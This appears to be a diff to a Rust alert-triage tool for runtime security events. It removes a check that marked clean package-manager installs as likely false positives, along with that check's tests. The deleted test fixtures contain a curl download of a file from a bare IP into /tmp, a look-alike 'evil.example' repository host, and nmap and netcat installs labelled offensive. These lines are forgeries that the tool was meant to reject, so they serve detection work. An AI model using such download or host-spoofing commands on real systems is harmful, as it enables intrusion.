@@ -216,9 +216,6 @@ struct AnchorFacts {
     /// attack and no package manager run in it (removing a package log after an install
     /// hides the install).
     quiet: bool,
-    /// The alert's package-manager work was verified clean (see [`Triage::clean_install`])
-    /// in a seen session with nothing in it toward an attack.
-    clean_install: bool,
 }
 
 /// The signal that anchors a likely false positive among an alert's hits, if any, with
@@ -238,10 +235,6 @@ fn anchor_of(hits: &[Hit], facts: AnchorFacts) -> Option<(&'static str, &'static
             Anchor::Unattended => None,
             Anchor::QuietSession if facts.quiet => Some((h.id, "quiet_session")),
             Anchor::QuietSession => None,
-            Anchor::MaintenanceSession if facts.clean_install => {
-                Some((h.id, "maintenance_session"))
-            }
-            Anchor::MaintenanceSession => None,
         })
 }
 
@@ -973,120 +966,17 @@ impl Triage<'_> {
         }) {
             out.push(hit("job_quiet", 1.0, vec![("launcher", l.clone())]));
         }
-        // A package manager's install verified clean: by name, from the repositories the
-        // catalogue entry names, nothing offensive, in a seen session with nothing in it
-        // toward an attack (issue 11: a person's maintenance the rule is about).
-        let clean_install = kinds.is_empty()
-            && dropped.is_none()
-            && a.network_stdio.is_none()
-            && sessions.seen(records, at)
-            && cat
-                .as_ref()
-                .and_then(|m| self.clean_install(m.entry, ev, records, &ctx))
-                .map(|(pkgs, hosts)| {
-                    out.push(hit(
-                        "install_from_repositories",
-                        1.0,
-                        vec![("packages", pkgs), ("hosts", hosts)],
-                    ))
-                })
-                .is_some();
         let installed = ctx.iter().any(|c| {
             matches!(&c.act.activity, Activity::Maintenance(n) if crate::evidence::role(n) == crate::evidence::Role::PackageManager)
         });
         let facts = AnchorFacts {
             quiet: kinds.is_empty() && interactive && !installed && sessions.seen(records, at),
             unattended: unattended(ev),
-            clean_install,
             harmless_act: cat
                 .as_ref()
                 .is_some_and(|m| m.entry.anchor_always && shipped_executable(ev)),
         };
         (out, facts)
-    }
-
-    /// Whether the package-manager work of an alert matched by `entry` (an entry naming
-    /// `repositories`) is a clean install: every command line of the entry's programs in
-    /// the alert's own process, its parent and its session requests packages by name
-    /// ([`requested_packages`]), none of them in `offensive`, at least one such command
-    /// line is seen, and every contact outside the site by those programs (in the session,
-    /// or the alert's own connection) went to a host named as one of `repositories`
-    /// (`fd.sip.name`; an address with no name is not a repository). Returns the packages
-    /// requested and the repository hosts contacted, for the evidence text.
-    fn clean_install(
-        &self,
-        entry: &crate::catalogue::Entry,
-        ev: &FlatEvent,
-        records: &[Record],
-        ctx: &[Context],
-    ) -> Option<(String, String)> {
-        if entry.repositories.is_empty() {
-            return None;
-        }
-        let is_pm = |n: &str| entry.actors.iter().any(|a| a == n);
-        let mut cmdlines: Vec<String> = Vec::new();
-        if text(ev, "proc.name").is_some_and(|n| is_pm(&n)) {
-            cmdlines.extend(text(ev, "proc.cmdline"));
-        }
-        if text(ev, "proc.pname").is_some_and(|n| is_pm(&n)) {
-            cmdlines.extend(text(ev, "proc.pcmdline"));
-        }
-        let mut contacts: Vec<&FlatEvent> = Vec::new();
-        let own_out = text(ev, "evt.type").is_some_and(|t| t == "connect")
-            && crate::evidence::server_ip(ev).is_some_and(|ip| !crate::evidence::is_inside(&ip));
-        if own_out {
-            contacts.push(ev);
-        }
-        for c in ctx {
-            let Some(r) = records.get(c.act.index) else {
-                continue;
-            };
-            match &c.act.activity {
-                Activity::Maintenance(n) if is_pm(n) => {
-                    cmdlines.extend(text(&r.event, "proc.cmdline"));
-                }
-                Activity::Contact(_, p, true) if is_pm(p) => contacts.push(&r.event),
-                _ => {}
-            }
-        }
-        if cmdlines.is_empty() {
-            return None;
-        }
-        let mut pkgs: Vec<String> = Vec::new();
-        for c in &cmdlines {
-            for p in crate::evidence::requested_packages(c)? {
-                let offensive = entry.offensive.iter().any(|o| {
-                    p == *o
-                        || p.strip_prefix(o.as_str())
-                            .is_some_and(|r| r.starts_with('-'))
-                });
-                if offensive {
-                    return None;
-                }
-                if !pkgs.contains(&p) {
-                    pkgs.push(p);
-                }
-            }
-        }
-        let mut hosts: Vec<String> = Vec::new();
-        for e in contacts {
-            let name = text(e, "fd.sip.name")?.to_ascii_lowercase();
-            let name = name.trim_end_matches('.').to_string();
-            let ok = entry
-                .repositories
-                .iter()
-                .any(|r| name == *r || name.ends_with(&format!(".{r}")));
-            if !ok {
-                return None;
-            }
-            if !hosts.contains(&name) {
-                hosts.push(name);
-            }
-        }
-        if hosts.is_empty() {
-            hosts.push("the site's own mirror".into());
-        }
-        Some((pkgs.join(" "), hosts.join(", ")))
     }
 
     fn report(
@@ -2118,134 +2008,6 @@ mod tests {
             "Clear Log Activities",
         );
         assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
-    }
-
-    /// Issue 11 (recall): a person installing a package by name from the distribution's
-    /// repositories, in a session quell saw with nothing else in it, is maintenance the
-    /// rule is about: anchored. The cheapest forgeries are not: an offensive tool, a
-    /// repository nobody names (an address with no name, another host), a local package
-    /// file, or a download in the same session.
-    #[test]
-    fn a_persons_clean_install_is_anchored_and_its_forgeries_are_not() {
-        let session = |sid: i64,
-                       cmd: &str,
-                       dest: Option<(&str, Option<&str>)>,
-                       extra: Vec<serde_json::Value>| {
-            let person =
-                json!({"proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"runc","proc.sid":sid});
-            let mut evs = vec![
-                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":3,"proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"bash","proc.pname":"runc","proc.aname[2]":null}),
-                json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":4,"proc.name":"apt-get","proc.exepath":"/usr/bin/apt-get","proc.cmdline":cmd}),
-            ];
-            if let Some((ip, name)) = dest {
-                let mut c = json!({"evt.type":"connect","evt.rawres":0,"evt.rawtime":5,"proc.name":"apt-get","proc.exepath":"/usr/bin/apt-get","proc.cmdline":cmd,"fd.name":format!("10.0.0.5:40112->{ip}:80"),"fd.sip":ip,"fd.sport":80});
-                if let Some(n) = name {
-                    c["fd.sip.name"] = json!(n);
-                }
-                evs.push(c);
-            }
-            evs.extend(extra);
-            evs.into_iter()
-                .map(|mut v| {
-                    for (k, val) in person.as_object().unwrap() {
-                        if v.get(k).is_none() {
-                            v[k] = val.clone();
-                        }
-                    }
-                    if v["proc.aname[2]"].is_null() {
-                        v.as_object_mut().unwrap().remove("proc.aname[2]");
-                    }
-                    l(v)
-                })
-                .collect::<Vec<String>>()
-        };
-        let debian = Some(("151.101.2.132", Some("deb.debian.org")));
-        let r = verdict_of(
-            &session(900, "apt-get install -y procps", debian, vec![]),
-            "Package manager",
-        );
-        assert_eq!(r.len(), 1, "{r:#?}");
-        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
-        assert!(
-            signals(&r[0]).contains(&"install_from_repositories"),
-            "{:#?}",
-            r[0]
-        );
-        assert_eq!(
-            r[0].anchor.as_deref(),
-            Some("install_from_repositories (maintenance_session)")
-        );
-        // From the site's own mirror (an inside address): no outside contact to check.
-        let r = verdict_of(
-            &session(
-                901,
-                "apt-get install -y procps",
-                Some(("10.0.9.9", None)),
-                vec![],
-            ),
-            "Package manager",
-        );
-        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
-        let not_anchored = |lines: Vec<String>, why: &str| {
-            let r = verdict_of(&lines, "Package manager");
-            assert!(!r.is_empty(), "{why}");
-            for c in &r {
-                assert!(
-                    !signals(c).contains(&"install_from_repositories"),
-                    "{why}: {c:#?}"
-                );
-                assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{why}: {c:#?}");
-            }
-        };
-        not_anchored(
-            session(902, "apt-get install -y nmap", debian, vec![]),
-            "offensive tool",
-        );
-        not_anchored(
-            session(
-                903,
-                "apt-get install -y netcat-openbsd=1.219-1",
-                debian,
-                vec![],
-            ),
-            "offensive tool, versioned",
-        );
-        not_anchored(
-            session(
-                904,
-                "apt-get install -y procps",
-                Some(("203.0.113.66", None)),
-                vec![],
-            ),
-            "an address with no name",
-        );
-        not_anchored(
-            session(
-                905,
-                "apt-get install -y procps",
-                Some(("203.0.113.66", Some("deb.debian.org.evil.example"))),
-                vec![],
-            ),
-            "another host",
-        );
-        not_anchored(
-            session(906, "apt-get install -y /tmp/procps.deb", None, vec![]),
-            "a local package file",
-        );
-        not_anchored(
-            session(
-                907,
-                "apt-get install -y --allow-untrusted procps",
-                debian,
-                vec![],
-            ),
-            "unsigned",
-        );
-        let dl = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":8,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/a https://198.51.100.9/a"});
-        not_anchored(
-            session(908, "apt-get install -y procps", debian, vec![dl]),
-            "a download after it",
-        );
     }
 
     /// Issue 11 (anchors): a CI runner's job running the test binary its compiler just
